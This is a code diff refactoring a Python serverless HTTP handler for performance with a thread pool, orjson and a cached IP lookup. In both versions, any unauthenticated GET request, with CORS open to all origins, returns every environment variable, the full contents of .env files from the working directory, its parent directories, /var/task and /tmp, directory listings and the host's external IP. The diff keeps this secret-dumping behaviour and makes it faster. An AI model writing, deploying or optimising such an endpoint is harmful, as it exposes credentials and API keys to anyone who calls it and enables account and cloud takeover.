@@ -1,8 +1,31 @@
-import json
 import os
-import urllib.request
-from typing import Dict, Any
-from pathlib import Path
+import time
+import orjson
+import urllib3
+from typing import Dict, Any, List, Tuple
+from concurrent.futures import ThreadPoolExecutor
+
+IP_POOL = urllib3.PoolManager(maxsize=1)
+IP_CACHE = {'ip': None, 'expires_at': 0.0}
+IP_CACHE_TTL = 300
+MAX_ENV_FILE_SIZE = 1 << 20
+
+OPTIONS_RESPONSE = {
+    'statusCode': 200,
+    'headers': {
+        'Access-Control-Allow-Origin': '*',
+        'Access-Control-Allow-Methods': 'GET, OPTIONS',
+        'Access-Control-Allow-Headers': 'Content-Type',
+        'Access-Control-Max-Age': '86400'
+    },
+    'body': ''
+}
+
+METHOD_NOT_ALLOWED_RESPONSE = {
+    'statusCode': 405,
+    'headers': {'Access-Control-Allow-Origin': '*'},
+    'body': '{"error": "Method not allowed"}'
+}
 
 
 def handler(event: Dict[str, Any], context: Any) -> Dict[str, Any]:
@@ -15,26 +38,24 @@ def handler(event: Dict[str, Any], context: Any) -> Dict[str, Any]:
     method: str = event.get('httpMethod', 'GET')
     
     if method == 'OPTIONS':
-        return {
-            'statusCode': 200,
-            'headers': {
-                'Access-Control-Allow-Origin': '*',
-                'Access-Control-Allow-Methods': 'GET, OPTIONS',
-                'Access-Control-Allow-Headers': 'Content-Type',
-                'Access-Control-Max-Age': '86400'
-            },
-            'body': ''
-        }
+        return OPTIONS_RESPONSE
     
     if method == 'GET':
-        result = {
-            'environment_variables': dict(os.environ),
-            'env_files': find_env_files(),
-            'external_ip': get_external_ip(),
-            'directory_structure': get_directory_structure(),
-            'current_dir': os.getcwd(),
-            'request_id': context.request_id
-        }
+        base_paths = resolve_search_paths(['.', '..', '../..', '../../..'])
+
+        with ThreadPoolExecutor(max_workers=3) as executor:
+            env_future = executor.submit(find_env_files, resolve_search_paths(base_paths + ['/var/task', '/tmp']))
+            ip_future = executor.submit(get_external_ip)
+            dir_future = executor.submit(get_directory_structure, base_paths)
+
+            result = {
+                'environment_variables': os.environ,
+                'env_files': env_future.result(),
+                'external_ip': ip_future.result(),
+                'directory_structure': dir_future.result(),
+                'current_dir': os.getcwd(),
+                'request_id': context.request_id
+            }
         
         return {
             'statusCode': 200,
@@ -43,84 +64,125 @@ def handler(event: Dict[str, Any], context: Any) -> Dict[str, Any]:
                 'Access-Control-Allow-Origin': '*'
             },
             'isBase64Encoded': False,
-            'body': json.dumps(result, indent=2, default=str)
+            'body': orjson.dumps(result, default=serialize_fallback).decode('utf-8')
         }
     
-    return {
-        'statusCode': 405,
-        'headers': {'Access-Control-Allow-Origin': '*'},
-        'body': json.dumps({'error': 'Method not allowed'})
-    }
+    return METHOD_NOT_ALLOWED_RESPONSE
 
 
-def find_env_files() -> Dict[str, Any]:
-    env_files = {}
-    search_paths = [
-        Path('.'),
-        Path('..'),
-        Path('../..'),
-        Path('../../..'),
-        Path('/var/task'),
-        Path('/tmp')
-    ]
-    
-    for base_path in search_paths:
-        if not base_path.exists():
+def serialize_fallback(obj: Any) -> Any:
+    if hasattr(obj, 'keys'):
+        return dict(obj)
+    return str(obj)
+
+
+def resolve_search_paths(paths: List[str]) -> List[str]:
+    seen = set()
+    unique = []
+    for path in paths:
+        real = os.path.realpath(path)
+        if real in seen or not os.path.isdir(real):
             continue
-            
-        for pattern in ['.env*', '*.env']:
+        seen.add(real)
+        unique.append(real)
+    return unique
+
+
+def find_env_files(search_paths: List[str]) -> Dict[str, Any]:
+    if not search_paths:
+        return {}
+
+    env_files = {}
+    with ThreadPoolExecutor(max_workers=len(search_paths)) as executor:
+        for found in executor.map(scan_env_dir, search_paths):
+            env_files.update(found)
+    return env_files
+
+
+def scan_env_dir(base_path: str) -> Dict[str, Any]:
+    env_files = {}
+    try:
+        entries = os.scandir(base_path)
+    except OSError:
+        return env_files
+
+    with entries:
+        for entry in entries:
+            name = entry.name
+            if not (name.startswith('.env') or name.endswith('.env')):
+                continue
             try:
-                for env_file in base_path.glob(pattern):
-                    if env_file.is_file():
-                        try:
-                            with open(env_file, 'r') as f:
-                                content = f.read()
-                            env_files[str(env_file.absolute())] = {
-                                'content': content,
-                                'size': env_file.stat().st_size
-                            }
-                        except Exception as e:
-                            env_files[str(env_file.absolute())] = {
-                                'error': str(e)
-                            }
-            except Exception:
+                if not entry.is_file(follow_symlinks=False):
+                    continue
+                file_path = os.path.realpath(entry.path)
+                size = entry.stat().st_size
+                if size > MAX_ENV_FILE_SIZE:
+                    env_files[file_path] = {
+                        'error': 'file too large',
+                        'size': size
+                    }
+                    continue
+                try:
+                    with open(entry.path, 'rb') as f:
+                        data = f.read(size)
+                    env_files[file_path] = {
+                        'content': data.decode('utf-8', errors='replace'),
+                        'size': size
+                    }
+                except Exception as e:
+                    env_files[file_path] = {
+                        'error': str(e)
+                    }
+            except OSError:
                 pass
-    
+
     return env_files
 
 
 def get_external_ip() -> str:
+    if time.time() < IP_CACHE['expires_at']:
+        return IP_CACHE['ip']
+
     try:
-        with urllib.request.urlopen('https://ident.me', timeout=5) as response:
-            return response.read().decode('utf-8').strip()
+        response = IP_POOL.request('GET', 'https://ident.me', timeout=5)
+        if response.status >= 400:
+            return f'error: HTTP Error {response.status}'
+        ip = response.data.decode('utf-8').strip()
+        IP_CACHE['ip'] = ip
+        IP_CACHE['expires_at'] = time.time() + IP_CACHE_TTL
+        return ip
     except Exception as e:
         return f'error: {str(e)}'
 
 
-def get_directory_structure() -> Dict[str, Any]:
-    structure = {}
-    search_paths = [Path('.'), Path('..'), Path('../..'), Path('../../..')]
-    
-    for base_path in search_paths:
-        if not base_path.exists():
-            continue
-            
-        try:
-            path_key = str(base_path.absolute())
-            structure[path_key] = {
-                'files': [],
-                'directories': []
-            }
-            
-            for item in base_path.iterdir():
-                if item.is_file():
-                    structure[path_key]['files'].append({
-                        'name': item.name,
-                        'size': item.stat().st_size
-                    })
-                elif item.is_dir():
-                    structure[path_key]['directories'].append(item.name)
-        except Exception as e:
-            structure[str(base_path)] = {'error': str(e)}
-    
-    return structure
\ No newline at end of file
+def get_directory_structure(search_paths: List[str]) -> Dict[str, Any]:
+    if not search_paths:
+        return {}
+
+    with ThreadPoolExecutor(max_workers=len(search_paths)) as executor:
+        return dict(executor.map(walk_directory, search_paths))
+
+
+def walk_directory(base_path: str) -> Tuple[str, Dict[str, Any]]:
+    listing = {
+        'files': [],
+        'directories': []
+    }
+
+    try:
+        with os.scandir(base_path) as entries:
+            for entry in entries:
+                try:
+                    if entry.is_file():
+                        listing['files'].append({
+                            'name': entry.name,
+                            'size': entry.stat().st_size
+                        })
+                    elif entry.is_dir():
+                        listing['directories'].append(entry.name)
+                except OSError:
+                    pass
+    except Exception as e:
+        return base_path, {'error': str(e)}
+
+    return base_path, listing
\ No newline at end of file